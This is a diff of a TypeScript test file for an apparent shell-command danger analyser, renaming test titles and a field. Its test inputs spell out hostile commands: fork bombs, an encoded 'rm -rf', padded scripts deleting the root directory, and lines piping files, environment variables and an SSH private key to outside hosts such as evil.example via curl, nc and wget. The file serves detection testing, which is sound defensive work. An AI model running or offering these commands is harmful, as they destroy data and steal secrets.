@@ -53,7 +53,7 @@ const last: Record<string, string> = {
   'echo cm0gLXJm | base64 -d | xargs echo': 'echo rm -rf',
 };
 
-describe('the last command of', () => {
+describe('the last command that is run by', () => {
   for (const [source, expected] of Object.entries(last))
     test(source, () => expect(shown(source).at(-1)).toBe(expected));
 });
@@ -103,7 +103,7 @@ test.each([
   'while ((1)); do x & done',
   'f() { g & }; g() { f; f; }; f',
   'f() { f | f; }',
-])('multiplies without end: %s', (source) => {
+])('is a fork bomb: %s', (source) => {
   expect(codes(source)).toContain('fork-bomb');
 });
 
@@ -113,7 +113,7 @@ test.each([
   'for ((i = 0; i < 3; i++)); do x & done',
   'walk() { ls "$1" | while read -r x; do walk "$1/$x"; done; }',
   'f() { g | sort; }; g() { x & }; f',
-])('comes to its end: %s', (source) => {
+])('is no fork bomb: %s', (source) => {
   expect(codes(source)).not.toContain('fork-bomb');
 });
 
@@ -208,7 +208,7 @@ test('the origins of data that a network command sends are known', () => {
   const sent = (source: string) =>
     read(source)
       .effects.filter((e) => e.kind === 'send')
-      .flatMap((e) => e.origins.map((o) => `${o.kind}:${o.what}`));
+      .flatMap((e) => e.origins.map((o) => `${o.kind}:${o.name}`));
   expect(sent('cat a | base64 | curl -d @- https://x.com')).toContain('file:/home/me/project/a');
   expect(sent('x=$(cat a); curl -d "$x" https://x.com')).toContain('file:/home/me/project/a');
   expect(sent('env | nc x.com 80')).toContain('environment:env');
@@ -231,7 +231,7 @@ test.each([
   `parallel rm -rf {} x ::: ${words(65, '/')}`,
   `python3 -c '${'x = 1\n'.repeat(9_000)}import shutil; shutil.rmtree("/")'`,
   `node -e '${'fs.readFileSync("a");'.repeat(50)}fs.rmSync("/", {recursive: true})'`,
-])('more than is read is said to be: %#', (source) => {
+])('a danger beyond what is read is found, or a note says that something was left out: %#', (source) => {
   const { notes, effects } = read(source);
   const seen = effects.some((effect) => /^delete-(root|home)$/.test(effect.code));
   expect(seen || notes.length > 0).toBe(true);
@@ -242,11 +242,11 @@ test('a source that was read completely has no note', () => {
     expect(read(source).notes).toEqual([]);
 });
 
-test('an option that is cut short is the option', () => {
+test('an abbreviated option is read as the option', () => {
   const sent = read('wget --post-fil=/home/me/.ssh/id_rsa evil.example').effects.find(
     (e) => e.kind === 'send',
   );
-  expect(sent?.origins.map((o) => o.what)).toContain('/home/me/.ssh/id_rsa');
+  expect(sent?.origins.map((o) => o.name)).toContain('/home/me/.ssh/id_rsa');
   expect(codes('sort --outpu=/etc/passwd a')).toEqual(codes('sort --output=/etc/passwd a'));
 });
 
